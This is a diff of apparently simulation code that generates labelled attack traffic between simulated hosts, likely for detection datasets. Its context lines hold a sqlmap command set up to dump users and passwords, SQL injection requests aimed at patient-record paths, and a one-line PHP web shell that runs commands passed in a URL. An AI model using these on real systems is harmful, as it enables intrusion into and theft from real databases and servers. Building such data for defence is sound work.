@@ -64,7 +64,7 @@ def sql_curl(scene):
     attacker, victim, dice = talk.either(scene), scene.host("records"), scene.dice
     port = dice.choice(PORTS)
     agent = ["-A", dice.choice(requests.AGENTS)] * dice.randrange(2)
-    with talk.blamed(scene, [attacker.address], victim.address, port):
+    with talk.blamed(scene, [attacker.address], victim.address, port, tail=4):
         for _ in talk.beats(scene, dice, dice.uniform(1.5, 8), 1.5 * scene.seconds):
             text = payloads.sql(dice)
             path = dice.choice(("/patients", "/patients", "/search", "/login"))
@@ -89,7 +89,7 @@ def sqlmap(scene):
     options += dice.choice(([], ["--tables"], ["--dump", "-T", "users"], ["--passwords"], ["--banner"]))
     options += dice.choice(([], ["--tamper", "space2comment"], ["--tamper", "randomcase,space2plus"]))
     techniques = "".join(dice.sample("BEUSTQ", dice.randint(2, 6)))
-    with talk.blamed(scene, [attacker.address], victim.address, port, tail=3):
+    with talk.blamed(scene, [attacker.address], victim.address, port, tail=6):
         scene.run(attacker, "env", f"HOME={scene.room.folder}", "sqlmap", *target, *options, "--batch",
                   "--flush-session", "--disable-coloring", "--output-dir", folder, "--technique", techniques,
                   "--level", dice.randint(1, 3), "--risk", dice.randint(1, 3), "--time-sec", 1,
@@ -174,7 +174,7 @@ def web_curl(scene):
     attacker, victim, dice = talk.either(scene), scene.host("records"), scene.dice
     port = dice.choice(PORTS)
     shell = scene.file("shell.php", "<?php system($_GET['c']); ?>" * dice.randint(1, 40))
-    with talk.blamed(scene, [attacker.address], victim.address, port):
+    with talk.blamed(scene, [attacker.address], victim.address, port, tail=4):
         for _ in talk.beats(scene, dice, dice.uniform(1.5, 8), 1.5 * scene.seconds):
             page = f"http://{victim.address}:{port}"
             secret = base64.b64encode(payloads.commands(dice).encode()).decode()
